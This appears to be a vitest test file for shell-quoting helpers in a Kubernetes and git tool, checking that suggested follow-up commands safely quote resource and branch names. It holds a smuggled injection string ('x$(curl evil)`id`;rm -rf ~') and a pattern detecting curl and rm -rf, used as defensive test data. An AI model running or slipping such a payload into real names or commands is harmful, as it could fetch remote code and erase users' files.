import { execFileSync } from 'node:child_process';
import * as fc from 'fast-check';
import { describe, expect, it } from 'vitest';
import { fileWord, shellWord } from '../../src/core/shell-word.ts';
import { correctedEvent } from '../../src/report/event-notes.ts';
import { kubeError } from '../../src/kube/errors.ts';
import { failureOf } from '../../src/kube/failure.ts';
import { noBranch } from '../../src/git/failure.ts';
import type { BranchName, GitUrl } from '../../src/git/address.ts';
import type { OpenResource } from '../../src/kube/resource.ts';

/** As a shell reads the words. */
function wordsOf(command: string): string[] {
  return execFileSync('sh', ['-c', `printf '%s\\0' ${command}`], { encoding: 'utf8' })
    .split('\0')
    .slice(0, -1);
}

describe('a word of a shell', () => {
  it('is read by one as the text it was made of', () => {
    const text = fc.oneof(
      fc.string({ unit: 'grapheme' }),
      fc.string({ unit: fc.constantFrom(...Array.from('$`\'"\\;|&()<>*?# \n!~{}a-')) }),
    );
    const texts = fc.array(
      text.map((each) => each.replaceAll('\0', '')),
      { minLength: 1, maxLength: 50 },
    );
    fc.assert(
      fc.property(texts, (all) => {
        expect(wordsOf(all.map(shellWord).join(' '))).toEqual(all);
      }),
      { seed: 20, numRuns: 40 },
    );
  });

  it('stays as it is where nothing is to be quoted', () => {
    for (const text of ['deploy/prod/db.yaml', 'apps/Deployment/web', 'https://git.example.com/a.git', 'a=b,c@d'])
      expect(shellWord(text)).toBe(text);
  });

  it('is no option when it is a file', () => {
    expect(fileWord('-i')).toBe('./-i');
    expect(fileWord('a -i')).toBe("'a -i'");
  });
});

const EVIL = 'x$(curl evil)`id`;rm -rf ~';
const ROLES: OpenResource = {
  group: 'rbac.authorization.k8s.io',
  version: 'v1',
  kind: 'Role',
  plural: 'roles',
  namespaced: true,
  verbs: [],
  secret: false,
};

/** Names of Roles and branches: hardly any character is forbidden in them. */
describe('a command that a next step offers', () => {
  it.each([
    [
      'a conflict',
      () =>
        kubeError(failureOf({ kind: 'conflict', status: 409 }), {
          resource: ROLES,
          namespace: 'team',
          name: EVIL,
          verb: 'patch',
        }).next,
    ],
    [
      'a branch',
      () =>
        noBranch([], {
          url: 'https://git.example.com/a.git' as GitUrl,
          branch: EVIL as BranchName,
          hasCredential: false,
          timeoutMs: 1,
        }).next,
    ],
    [
      'an Event',
      () =>
        correctedEvent(
          {
            group: 'rbac.authorization.k8s.io',
            apiVersion: 'rbac.authorization.k8s.io/v1',
            kind: 'Role',
            namespace: 'team',
            name: EVIL,
            uid: 'u',
          },
          { paths: ['/rules'], change: 'edited', revision: 'r' },
        ).note,
    ],
  ])('does nothing else when it is pasted, whatever things are called: %s', (_what, next) => {
    const text = next();
    expect(text).toContain(EVIL);
    // Without what stands in single quotes nothing of it is left.
    expect(text.replaceAll(/'[^']*'/g, '')).not.toMatch(/curl|rm -rf/);
  });
});
